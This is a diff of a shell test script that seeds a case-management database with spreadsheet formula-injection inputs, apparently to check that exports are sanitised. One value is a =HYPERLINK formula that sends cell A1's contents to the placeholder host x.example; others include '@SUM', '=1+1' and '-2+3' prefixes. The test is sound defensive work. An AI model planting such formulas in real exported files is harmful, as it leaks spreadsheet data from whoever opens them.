@@ -12,7 +12,8 @@ td init >/dev/null
 td demo --cases 400 --prosecutions 40 --events 60 --seed 8 >/dev/null
 q "UPDATE cases SET first_name = '=HYPERLINK(\"http://x.example/?\"&A1,\"ສົມສັກ\")', last_name = 'ແກ້ວມະນີ',
    phone = '02055512345', id_document = '0012345678901234567', home_village = '@SUM(1+1)',
-   notes = '-2+3 ກິນເຂົ້າ', referred_to = '+856 20 5551 2345' WHERE id = 1"
+   notes = '-2+3 ກິນເຂົ້າ', referred_to = '+856 20 5551 2345',
+   case_status = 'ClosedReferred', closure_reason = 'Referred', followup_on = NULL WHERE id = 1"
 q "UPDATE cases SET first_name = '	tab', notes = 'ເອີ້ນ ນາງ ດາວ ທີ່ ບ້ານ ໂພນທັນ' WHERE id = 2"
 q "UPDATE events SET score_gain = -12.5, title = '=1+1' WHERE id = 1"
 q "UPDATE case_events SET description = 'ນາງ ມາລີ ພາໄປ', place = 'ບ້ານ ໂພນທັນ' WHERE id IN (SELECT min(id) FROM case_events)"
